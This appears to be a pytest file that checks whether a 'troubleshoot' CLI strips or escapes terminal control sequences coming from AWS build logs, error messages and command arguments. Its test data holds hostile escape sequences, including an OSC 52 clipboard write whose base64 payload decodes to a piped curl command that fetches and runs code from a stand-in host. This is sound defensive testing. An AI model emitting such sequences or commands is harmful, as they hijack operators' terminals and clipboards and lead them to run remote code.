"""Text from AWS (build log lines, error messages) cannot steer the operator's terminal.

Each hostile line carries a sequence a terminal obeys: clear the screen (CSI 2J), set the window
title (OSC 0), write the clipboard (OSC 52), the 8-bit CSI (0x9b), a bell and a backspace. The text
report keeps the words and neutralises the controls; the JSON document keeps them as JSON escapes.
"""

import json

import pytest

from tests.support.troubleshoot_scenarios import (
    BUILD_LOG,
    DEV_PIPELINE,
    FAILED_EXECUTION,
    action_run,
    execution_summary,
    stage_build_failure,
    stub_action_runs,
    stub_executions,
    stub_state,
)

CLIPBOARD_PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="
HOSTILE_LINES = [
    "ERROR \x1b[2Jscreen cleared",
    "ERROR \x1b]0;root@prod\x07title set",
    f"ERROR \x1b]52;c;{CLIPBOARD_PAYLOAD}\x07clipboard written",
    "ERROR \x9b2Jeight-bit CSI",
    "ERROR bell\x07 and back\x08space",
]
TERMINAL_CONTROLS = {chr(code) for code in range(0x20) if chr(code) not in "\n\t"}
TERMINAL_CONTROLS |= {chr(code) for code in range(0x7F, 0xA0)}


def assert_terminal_safe(out: str) -> None:
    controls = sorted({char for char in out if char in TERMINAL_CONTROLS})
    assert controls == [], f"control characters reach the terminal: {controls!r}"
    assert CLIPBOARD_PAYLOAD not in out


def test_hostile_build_log_lines_are_neutralised_in_text_and_escaped_in_json(
    aws, run_command, monkeypatch
):
    build_log = BUILD_LOG[:5] + HOSTILE_LINES + BUILD_LOG[5:]
    stage_build_failure(aws, build_log)

    code, out, err = run_command("dev")

    assert (code, err) == (1, "")
    assert_terminal_safe(out)
    for words in ("screen cleared", "title set", "clipboard written", "eight-bit CSI"):
        assert f"ERROR {words}" in out
    assert "ERROR bell\\x07 and back\\x08space" in out

    # The same failure again for --json: the log is already in moto, only the stubs are queued anew.
    monkeypatch.setattr("tests.support.troubleshoot_scenarios.seed_build_logs", lambda *_: None)
    stage_build_failure(aws, build_log)
    code, out, err = run_command("dev", "--json")

    assert (code, err) == (1, "")
    assert "\x1b" not in out and "\\u001b[2J" in out, "JSON keeps ESC only as an escape"
    shown = json.dumps(json.loads(out))
    assert all(json.dumps(line)[1:-1] in shown for line in HOSTILE_LINES)


def test_a_hostile_aws_error_message_is_neutralised_in_the_report(aws, run_command):
    hostile = {"code": "JobFailed", "message": "\x1b]0;pwned\x07\x1b[2Jbranch \x9b31mmain\x08 gone"}
    stub_executions(aws, DEV_PIPELINE, execution_summary(FAILED_EXECUTION, "Failed"))
    stub_state(aws, DEV_PIPELINE, [])
    stub_action_runs(
        aws,
        DEV_PIPELINE,
        FAILED_EXECUTION,
        [
            action_run(
                FAILED_EXECUTION,
                "Source",
                "Source",
                "CodeCommit",
                "Failed",
                {"errorDetails": hostile},
            )
        ],
    )

    code, out, err = run_command("dev")

    assert (code, err) == (1, "")
    assert_terminal_safe(out)
    assert "AWS: JobFailed: branch main\\x08 gone" in out
    aws.assert_all_stubs_used()


def test_arguments_echoed_in_a_usage_error_are_neutralised(capsys):
    from troubleshoot.cli import main

    with pytest.raises(SystemExit):
        main(["dev", "\x1b]0;pwned\x07", "\x9b2J"])

    err = capsys.readouterr().err
    assert_terminal_safe(err.rstrip("\n"))
    assert (
        err.startswith("bin/troubleshoot: error: unrecognized arguments:") and err.count("\n") == 1
    )
